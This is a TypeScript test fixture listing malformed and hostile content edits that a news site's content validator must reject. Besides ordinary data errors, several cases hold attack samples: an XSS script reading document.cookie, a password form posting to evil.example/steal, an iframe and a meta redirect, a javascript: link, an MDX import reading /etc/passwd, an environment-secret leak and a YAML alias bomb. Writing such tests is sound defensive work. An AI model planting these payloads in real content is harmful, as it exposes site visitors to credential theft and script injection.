/**
 * The corpus of bad input: each case is one change an editor (or a hostile contributor) might
 * make to content/, applied to a fresh copy of the fixture content, with the file and field the
 * check must name. `tests/unit/bad-input.test.ts` runs every case through the editors' validator;
 * `tests/build/bad-input-build.test.ts` runs every case through `npm run check:content` and
 * `astro build`, which must both fail naming the same file and field. Keep it growing: a new way
 * to break a page is a new row here.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FIXTURE } from './fixture.ts';

export interface BadInput {
  name: string;
  /** Breaks a copy of the fixture content in place. */
  apply(root: string): void;
  file: string;
  field: string;
  /** What the message must say. */
  message: RegExp;
}

const edit = (root: string, rel: string, change: (text: string) => string) => {
  const file = path.join(root, rel);
  writeFileSync(file, change(readFileSync(file, 'utf8')));
};
const write = (root: string, rel: string, text: string | Buffer) => writeFileSync(path.join(root, rel), text);

const ROUND = 'funding/acme-ai-seed-2024.yaml';
const RATES = 'data/ecb-rates.yaml';
const STORY = 'articles/en/acme-story.mdx';
const PROFILE = 'companies/acme-ai.mdx';

export const BAD_INPUT: readonly BadInput[] = [
  {
    name: 'an impossible date (Astro would roll 30 February over to 1 March)',
    apply: (r) => edit(r, ROUND, (t) => t.replace('announced: 2024-03-01', 'announced: 2024-02-30')),
    file: `content/${ROUND}:2`, field: 'announced', message: /real calendar date|YYYY-MM-DD/,
  },
  {
    name: 'a Spanish text whose English record does not exist (a typo in its name)',
    apply: (r) => write(r, 'companies/acme-aii.es.mdx', '---\n---\nTexto.\n'),
    file: 'content/companies/acme-aii.es.mdx', field: '(file name)', message: /content\/companies\/acme-aii\.mdx does not exist/,
  },
  {
    name: 'a profile saved as .md',
    apply: (r) => write(r, 'companies/newco.md', '---\nname: Newco\n---\nText.\n'),
    file: 'content/companies/newco.md', field: '(file)', message: /rename it to newco\.mdx/,
  },
  {
    name: 'a JSON file in a YAML folder',
    apply: (r) => write(r, 'funding/acme-ai-series-a-2025.json', '{"company":"acme-ai"}'),
    file: 'content/funding/acme-ai-series-a-2025.json', field: '(file)', message: /YAML files named <slug>\.yaml/,
  },
  {
    name: "a round saved under another company's file name",
    apply: (r) => write(r, 'funding/zeta-labs-seed-2020.yaml', readFileSync(path.join(r, ROUND), 'utf8')),
    file: 'content/funding/zeta-labs-seed-2020.yaml', field: '(file name)', message: /starts with the slug of the record it belongs to \(companies\/acme-ai: "acme-ai-…"\)/,
  },
  {
    name: 'the same date and currency twice in the rates, with different rates',
    apply: (r) => edit(r, RATES, (t) => `${t.trimEnd()}\n${t.slice(t.indexOf('  - date:')).replace('rate: 1.0813', 'rate: 1.2').trimEnd()}\n`),
    file: `content/${RATES}`, field: 'rates.1', message: /repeats the rate for 2024-03-01 USD/,
  },
  {
    name: 'broken indentation in the rates file',
    apply: (r) => edit(r, RATES, (t) => t.replace('    currency: USD', '  currency: USD')),
    file: `content/${RATES}:3`, field: '(file)', message: /YAML cannot be read/,
  },
  {
    name: 'malformed YAML in a record',
    apply: (r) => edit(r, ROUND, (t) => t.replace('stage: seed', 'stage: [seed')),
    file: `content/${ROUND}`, field: '(file)', message: /YAML cannot be read/,
  },
  {
    name: 'a field written twice',
    apply: (r) => edit(r, ROUND, (t) => t.replace('stage: seed', 'stage: seed\nstage: series-a')),
    file: `content/${ROUND}:4`, field: '(file)', message: /a field is written twice/,
  },
  {
    name: 'an empty MDX file',
    apply: (r) => write(r, 'companies/zeta-labs.mdx', ''),
    file: 'content/companies/zeta-labs.mdx:1', field: '(file)', message: /the file is empty/,
  },
  {
    name: 'an MDX file without front matter',
    apply: (r) => write(r, 'companies/zeta-labs.mdx', 'Zeta Labs is a company.\n'),
    file: 'content/companies/zeta-labs.mdx:1', field: '(file)', message: /must start with front matter/,
  },
  {
    name: 'a YAML alias bomb',
    apply: (r) => {
      const levels = ['a: &a [x, x, x, x, x, x, x, x, x]'];
      for (let i = 1; i < 9; i++) levels.push(`${'abcdefghi'[i]}: &${'abcdefghi'[i]} [${Array(9).fill(`*${'abcdefghi'[i - 1]}`).join(', ')}]`);
      edit(r, ROUND, (t) => `${t}${levels.join('\n')}\n`);
    },
    file: `content/${ROUND}`, field: '(file)', message: /alias/,
  },
  {
    name: 'a symbolic link to a file outside the repository',
    apply: (r) => symlinkSync('/etc/hostname', path.join(r, 'glossary', 'hostname.yaml')),
    file: 'content/glossary/hostname.yaml', field: '(file)', message: /symbolic link/,
  },
  {
    name: "a glossary slug that is one of the layout's ids",
    apply: (r) => write(r, 'glossary/main.yaml', readFileSync(path.join(r, 'glossary', 'open-weights.yaml'), 'utf8')),
    file: 'content/glossary/main.yaml', field: '(file name)', message: /an id the page layout already uses/,
  },
  {
    name: 'a 5,000-character name without spaces',
    apply: (r) => edit(r, 'companies/zeta-labs.mdx', (t) => t.replace(/^name: .*$/m, `name: ${'Z'.repeat(5000)}`)),
    file: 'content/companies/zeta-labs.mdx:2', field: 'name', message: /at most 120 characters/,
  },
  {
    name: 'a company website on a loopback address',
    apply: (r) => edit(r, 'companies/acme-ai.mdx', (t) => t.replace('website: https://acme.example.org', 'website: http://127.0.0.1:8080/')),
    file: 'content/companies/acme-ai.mdx', field: 'website', message: /not an IP address/,
  },
  {
    name: 'a company website on a private network address',
    apply: (r) => edit(r, 'companies/acme-ai.mdx', (t) => t.replace('website: https://acme.example.org', 'website: http://192.168.1.1/admin')),
    file: 'content/companies/acme-ai.mdx', field: 'website', message: /not an IP address/,
  },
  {
    name: 'a source on an internal host name',
    apply: (r) => edit(r, ROUND, (t) => t.replace('https://example.org/news/acme-raises', 'https://wiki.corp/acme-raises')),
    file: `content/${ROUND}`, field: 'sources.0.url', message: /internal host name/,
  },
  {
    name: 'a citation of a blocked site',
    apply: (r) => edit(r, ROUND, (t) => t.replace('https://example.org/news/acme-raises', 'https://www.spun-copies.example/acme-raises')),
    file: `content/${ROUND}`, field: 'sources[0].url', message: /cites spun-copies\.example, which may not be cited/,
  },
  {
    name: 'a privacy policy cited as a source',
    apply: (r) => edit(r, ROUND, (t) => t.replace('https://example.org/news/acme-raises', 'https://acme.example.org/privacy-policy')),
    file: `content/${ROUND}`, field: 'sources[0].url', message: /cites a privacy policy/,
  },
  {
    name: 'a raw <script> in an article',
    apply: (r) => edit(r, STORY, (t) => `${t}\n<script>alert(document.cookie)</script>\n`),
    file: `content/${STORY}`, field: '(body)', message: /<script> is not allowed in a body/,
  },
  {
    name: 'an <iframe> in a profile',
    apply: (r) => edit(r, PROFILE, (t) => `${t}\n<iframe src="https://evil.example/"></iframe>\n`),
    file: `content/${PROFILE}`, field: '(body)', message: /<iframe> is not allowed/,
  },
  {
    name: 'a password form posting off-site',
    apply: (r) => edit(r, PROFILE, (t) => `${t}\n<form action="https://evil.example/steal" method="post"><input type="password" name="p" /></form>\n`),
    file: `content/${PROFILE}`, field: '(body)', message: /<form> is not allowed/,
  },
  {
    name: 'a <meta http-equiv="refresh"> that navigates away',
    apply: (r) => edit(r, STORY, (t) => `${t}\n<meta http-equiv="refresh" content="0;url=https://evil.example/" />\n`),
    file: `content/${STORY}`, field: '(body)', message: /<meta> is not allowed/,
  },
  {
    name: 'an event handler on an allowed element',
    apply: (r) => edit(r, STORY, (t) => `${t}\nSee <abbr title="x" onmouseover="alert(1)">GPAI</abbr>.\n`),
    file: `content/${STORY}`, field: '(body)', message: /may not carry the attribute onmouseover \(event handlers run code\)/,
  },
  {
    name: 'an <img onerror> in JSX syntax',
    apply: (r) => edit(r, STORY, (t) => `${t}\n<img src="x" onerror={() => alert(1)} />\n`),
    file: `content/${STORY}`, field: '(body)', message: /<img> is not allowed/,
  },
  {
    name: 'a javascript: link in Markdown',
    apply: (r) => edit(r, STORY, (t) => `${t}\n[click](javascript:alert(1))\n`),
    file: `content/${STORY}`, field: '(body)', message: /only https:\/\/, http:\/\/, mailto: and the site's own pages/,
  },
  {
    name: 'a data: URL in an image',
    apply: (r) => edit(r, STORY, (t) => `${t}\n![x](data:image/svg+xml;base64,PHN2Zz4=)\n`),
    file: `content/${STORY}`, field: '(body)', message: /links to "data:image/,
  },
  {
    name: 'an import that reads files at build time',
    apply: (r) => edit(r, STORY, (t) => t.replace('Acme AI raised money.', "import { readFileSync } from 'node:fs'\n\n{readFileSync('/etc/passwd', 'utf8')}\n\nAcme AI raised money.")),
    file: `content/${STORY}`, field: '(body)', message: /import and export are not allowed/,
  },
  {
    name: 'an expression that prints an environment variable',
    apply: (r) => edit(r, STORY, (t) => `${t}\nThe key is {process.env.SECRET_TOKEN}.\n`),
    file: `content/${STORY}`, field: '(body)', message: /\{process\.env\.SECRET_TOKEN\} is code/,
  },
  {
    name: 'a body link to a record that does not exist',
    apply: (r) => edit(r, STORY, (t) => `${t}\nSee [the company](/companies/does-not-exist/).\n`),
    file: `content/${STORY}`, field: '(body)', message: /\/companies\/does-not-exist\/, which is not a published page/,
  },
  {
    name: 'a profile linking to an article that is now a draft',
    apply: (r) => {
      for (const lang of ['en', 'es']) edit(r, `articles/${lang}/acme-story.mdx`, (t) => t.replace(/^published: /m, 'draft: true\npublished: '));
      edit(r, PROFILE, (t) => `${t}\nRead [the Acme story](/articles/acme-story/).\n`);
    },
    file: `content/${PROFILE}`, field: '(body)', message: /\/articles\/acme-story\/, which is not a published page: .* or it is a draft/,
  },
  {
    name: 'a Spanish text linking to an English page',
    apply: (r) => edit(r, 'companies/acme-ai.es.mdx', (t) => `${t}\nVéase [el modelo](/models/acme-1/).\n`),
    file: 'content/companies/acme-ai.es.mdx', field: '(body)', message: /link to the es page, \/es\/models\/acme-1\//,
  },
  {
    name: 'an acquisition round for a company whose record does not say it was bought',
    apply: (r) => edit(r, ROUND, (t) => t.replace('stage: seed', 'stage: acquisition')),
    file: `content/${ROUND}:3`, field: 'stage', message: /does not say status: acquired \(or being-acquired, for a deal announced but not closed\) with acquisition/,
  },
  {
    name: 'a chart the Atlas does not draw',
    apply: (r) => edit(r, STORY, (t) => `${t}\n<AtlasChart name="revenue-per-year" />\n`),
    file: `content/${STORY}`, field: '(body)', message: /<AtlasChart name="revenue-per-year"> is not a chart of the Atlas: use one of equity-per-year/,
  },
  {
    name: 'a chart narrowed to a sector no company has',
    apply: (r) => edit(r, STORY, (t) => `${t}\n<AtlasChart name="equity-per-year" sector="quantum-computing" />\n`),
    file: `content/${STORY}`, field: '(body)', message: /sector="quantum-computing">: no company in content\/companies has that sector/,
  },
  {
    name: 'a link to a country page that does not exist',
    apply: (r) => edit(r, STORY, (t) => `${t}\nSee [Atlantis](/countries/xa/).\n`),
    file: `content/${STORY}`, field: '(body)', message: /links to \/countries\/xa\/, which is not a page: no company or investor is in that country/,
  },
  {
    name: 'a body that is not valid MDX',
    apply: (r) => edit(r, STORY, (t) => `${t}\nRevenue grew <50% in {2024.\n`),
    file: `content/${STORY}`, field: '(body)', message: /cannot be read as MDX/,
  },
];

/** A fresh copy of the fixture content with one case applied; remove it with `rmSync`. */
export function brokenCopy(c: BadInput): string {
  const root = mkdtempSync(path.join(os.tmpdir(), 'atlas-bad-'));
  cpSync(FIXTURE, root, { recursive: true });
  c.apply(root);
  return root;
}

export const cleanUp = (root: string) => rmSync(root, { recursive: true, force: true });

/** The line an editor reads: `file[:line]: field: message`. */
export const expectedLine = (c: BadInput) => new RegExp(`${escape(c.file)}(?::\\d+)?: ${escape(c.field)}: .*${c.message.source}`);
const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
